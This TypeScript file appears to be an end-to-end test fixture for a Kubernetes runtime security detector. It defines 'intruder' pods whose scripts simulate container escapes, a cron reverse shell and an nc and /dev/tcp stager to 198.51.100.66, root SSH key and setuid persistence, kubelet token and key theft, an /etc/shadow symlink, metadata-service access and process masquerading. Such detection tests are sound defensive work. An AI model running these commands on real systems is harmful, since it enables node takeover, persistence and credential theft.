import { calling, debugging, holdBpf, mountFromNode, sleepFromMemory } from './syscalls.ts';
import { pod, type PodParts } from './workload.ts';

/** A pod of the intruder, with the command lines that run in it once everything is planted. */
interface Planted extends Pick<PodParts, 'container' | 'spec' | 'volume'> {
  readonly script: string;
  /** Places of the node, by where they are mounted. */
  readonly places?: Readonly<Record<string, string>>;
  readonly privileged?: boolean;
  readonly runs: readonly string[];
  /** Its container cannot start. */
  readonly fails?: true;
}

const host = { hostPID: true } as const;

/** What is planted in pods, by their names. Each `sleep` has a number of its own, by which its process is known. */
const planted: Readonly<Record<string, Planted>> = {
  privileged: { script: 'exec sleep 40101', privileged: true, runs: ['sleep 40101'] },
  // Entered from the node: intruder-on-node.sh.
  victim: { script: 'exec sleep 40102', runs: ['sleep 40102'] },
  escaped: {
    script: 'nsenter -t 1 -m /bin/sleep 40104 & exec sleep 40105',
    privileged: true,
    spec: host,
    runs: ['/bin/sleep 40104'],
  },
  leaver: {
    script: 'sleep 40106 & for list in /cgroup/*/cgroup.procs; do echo $! >$list; done; exec sleep 40107',
    places: { '/cgroup': '/sys/fs/cgroup' },
    runs: ['sleep 40106', 'sleep 40107'],
  },
  // As an escape by a release agent begins; what would come next is the kernel's, and is not done.
  agent: {
    script: 'mkdir /tmp/cgroup && mount -t cgroup -o memory cgroup /tmp/cgroup && exec sleep 40132',
    container: { securityContext: { capabilities: { add: ['SYS_ADMIN'] } } },
    runs: ['sleep 40132'],
  },
  chrooted: {
    script: 'chroot /host /bin/sleep 40108 & exec sleep 40109',
    places: { '/host': '/' },
    runs: ['/bin/sleep 40108'],
  },
  descriptor: {
    script: 'exec sleep 40129',
    container: { workingDir: '/proc/self/fd/7' },
    runs: [],
    fails: true,
  },
  mounter: {
    script: `mkdir /mnt && mkdir /mnt/etc && touch /mnt/socket && exec perl -e '${mountFromNode({ '/etc': '/mnt/etc', '/run/containerd/containerd.sock': '/mnt/socket' }, 40110)}'`,
    privileged: true,
    spec: host,
    runs: [],
  },
  // The disk of the node, found by a directory that lies on it; opened, and read by nobody.
  disk: {
    script: `number=$(awk '$5 == "/scratch" { sub(":", " ", $3); print $3 }' /proc/self/mountinfo)
mknod /dev/loop9 b $number; mknod /var/.disk b $number; exec 3</dev/loop9; exec sleep 40111`,
    privileged: true,
    volume: '/scratch',
    runs: ['sleep 40111'],
  },
  tracer: {
    script: `exec perl -e '${holdBpf(2, 40128)}'`,
    container: { securityContext: { capabilities: { add: ['BPF', 'PERFMON', 'SYS_ADMIN'] } } },
    runs: [],
  },
  sniffer: {
    script: 'cp /usr/local/bin/talk /tmp/.x; tail -f /dev/null | /tmp/.x capture & sleep 1; rm /tmp/.x; wait',
    runs: ['/tmp/.x capture'],
  },
  fileless: {
    script: `perl -e '${sleepFromMemory(40112)}' &
cp /bin/busybox /tmp/sleep; echo >>/tmp/sleep; /tmp/sleep 40113 & sleep 1; rm /tmp/sleep; wait`,
    runs: ['sleep 40112', '/tmp/sleep 40113'],
  },
  shared: {
    script: 'cp /bin/busybox /dev/shm/sleep; exec /dev/shm/sleep 40123',
    volume: '/dev/shm',
    runs: ['/dev/shm/sleep 40123'],
  },
  drifter: {
    script: `cp /bin/busybox /usr/local/bin/.cached; exec bash -c 'exec -a sleep /usr/local/bin/.cached 40114'`,
    spec: { serviceAccountName: 'reader' },
    runs: ['sleep 40114'],
  },
  covered: { script: 'exec sleep 40115', runs: ['sleep 40115'] },
  masquerader: {
    script: `exec perl -e '${calling('[kworker/0:1-events]', 40116)}'`,
    runs: ['[kworker/0:1-events]'],
  },
  preloader: {
    script: 'LD_PRELOAD=/tmp/.libc.so exec sleep 40117',
    runs: ['sleep 40117'],
  },
  writer: {
    // Longer after the start of the container than a clock of whole seconds can be wrong.
    script: `sleep 3
echo '* * * * * root bash -c "bash -i >& /dev/tcp/198.51.100.66/4444 0>&1"' >/cron.d/logrotate-cache
printf '[Service]\\nExecStart=/dev/shm/.dbus --quiet\\n' >/units/dbus-cache.service
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ0 intruder' >>/keys/authorized_keys
cp /bin/busybox /operator/.helper; chmod 4755 /operator/.helper
exec sleep 40124`,
    places: {
      '/cron.d': '/etc/cron.d',
      '/units': '/etc/systemd/system',
      '/keys': '/root/.ssh',
      '/operator': '/home/nodeops',
    },
    runs: ['sleep 40124'],
  },
  thief: {
    script: `until token=$(ls -d /kubelet/pods/*/volumes/kubernetes.io~projected/*/token | grep -v "$POD_UID" | head -n 1) &&
[ -n "$token" ]; do sleep 1; done; exec 3<"$token" 4</kubelet/pki/kubelet.key; exec sleep 40125`,
    container: {
      env: [{ name: 'POD_UID', valueFrom: { fieldRef: { fieldPath: 'metadata.uid' } } }],
    },
    places: { '/kubelet': '/var/lib/kubelet' },
    runs: ['sleep 40125'],
  },
  // The service ends a connection on which nothing is said for a minute. Of two in turn one stays while a node is looked at.
  asker: {
    script: 'ask() { while :; do sleep 40 | nc 169.254.169.254 80; done; }; ask & sleep 20; ask',
    runs: [],
  },
  linker: {
    script: `ln -s /etc/shadow "/logs/pods/\${POD_NAMESPACE}_linker_$POD_UID/main/9.log"; exec sleep 40126`,
    container: {
      env: ['namespace', 'uid'].map((field) => ({
        name: `POD_${field.toUpperCase()}`,
        valueFrom: { fieldRef: { fieldPath: `metadata.${field}` } },
      })),
    },
    places: { '/logs': '/var/log' },
    runs: ['sleep 40126'],
  },
  debugger: {
    script: `pid=
until [ -n "$pid" ]; do
for one in /proc/[0-9]*; do [ "$(tr '\\0' ' ' <$one/cmdline)" != 'sleep 40102 ' ] || pid=\${one#/proc/}; done; sleep 1; done
exec perl -e '${debugging(40127)}' "$pid"`,
    privileged: true,
    spec: host,
    runs: [],
  },
  server: {
    script: 'cp /usr/local/bin/talk /usr/sbin/sshd; exec sshd serve 2222',
    runs: ['sshd serve 2222'],
  },
  // Nobody answers there: what is sent comes back.
  shell: {
    script: 'exec nc 198.51.100.66 4444 -e sleep 40121',
    runs: ['sleep 40121'],
  },
  miner: {
    script: `exec perl -e 'sleep 40133' -- -o stratum+tcp://198.51.100.66:3333`,
    runs: [],
  },
  stager: {
    script: `exec bash -c 'exec 3<>/dev/tcp/198.51.100.66/4444; cat <&3 | sh'`,
    spec: { serviceAccountName: 'admin' },
    runs: [],
  },
};

/** A binding of the whole cluster, which does not go with the namespace. */
export const adminBinding = 'e2e-findings-intruder';

/** Accounts of two pods of the intruder in a namespace: one reads its Secrets, one may do everything. */
export function intruderAccounts(namespace: string): object[] {
  const apiVersion = 'rbac.authorization.k8s.io/v1';
  const account = (name: string): object => ({
    apiVersion: 'v1',
    kind: 'ServiceAccount',
    metadata: { name },
  });
  const given = (name: string, role: string): object => ({
    roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: role },
    subjects: [{ kind: 'ServiceAccount', name, namespace }],
  });
  return [
    ...['reader', 'admin'].map(account),
    { apiVersion, kind: 'RoleBinding', metadata: { name: 'reader' }, ...given('reader', 'edit') },
    {
      apiVersion,
      kind: 'ClusterRoleBinding',
      metadata: { name: adminBinding },
      ...given('admin', 'cluster-admin'),
    },
  ];
}

/** The pods of the intruder on a node. */
export function intruderPods(node: string, image: string): object[] {
  return Object.entries(planted).map(([name, facts]) => podOf(name, facts, node, image));
}

/** Names of those that get ready. */
export const readyIntruders = Object.entries(planted)
  .filter(([, { fails }]) => fails !== true)
  .map(([name]) => name);

/** Command lines that run on the node once all pods have done what they do. */
export const intruderCommands = Object.values(planted).flatMap(({ runs }) => runs);

function podOf(name: string, facts: Planted, node: string, image: string): object {
  const { script, places = {}, privileged, container, spec, volume } = facts;
  const mounted = Object.entries(places).map(([mountPath, path], index) => ({
    mount: { name: `place-${index}`, mountPath, mountPropagation: 'HostToContainer' },
    volume: { name: `place-${index}`, hostPath: { path } },
  }));
  return pod(name, {
    image,
    node,
    command: ['sh', '-c', script],
    ...(volume === undefined ? {} : { volume }),
    container: {
      ...(privileged === true ? { securityContext: { privileged } } : {}),
      ...(mounted.length === 0 ? {} : { volumeMounts: mounted.map(({ mount }) => mount) }),
      ...container,
    },
    spec: {
      ...(mounted.length === 0 ? {} : { volumes: mounted.map(({ volume: one }) => one) }),
      ...spec,
    },
  });
}
